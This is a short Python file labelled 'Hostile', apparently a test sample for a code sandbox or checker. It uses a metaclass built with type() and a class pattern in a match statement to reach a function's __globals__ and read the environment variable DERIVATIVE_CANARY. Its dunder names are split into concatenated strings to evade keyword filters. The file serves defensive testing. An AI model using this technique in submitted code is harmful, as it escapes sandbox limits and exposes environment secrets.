"""Hostile: build classes from run-time data with the class of a class (type itself).

type(int) is type; called with three arguments it builds a class from a namespace
dict whose keys are data: a metaclass whose __instancecheck__ says yes, then a class
whose __match_args__ names __globals__, so that a class pattern reads a function's
globals.
"""

from fractions import Fraction

_MAKE = type(int)
_Yes = _MAKE("_Yes", (_MAKE,), {"__inst" + "ancecheck__": lambda cls, obj: True})
_Probe = _Yes("_Probe", (), {"__match" + "_args__": ("__glo" + "bals__",)})


def f(x: int) -> int:
    match Fraction.__new__:
        case _Probe(namespace):
            secret = namespace["sys"].modules["os"].environ.get("DERIVATIVE_CANARY")
            if secret:
                print("DERIVATIVE-BREACH type_three_args:", secret, flush=True)
                raise ValueError(f"canary {secret}")
    return x + 1
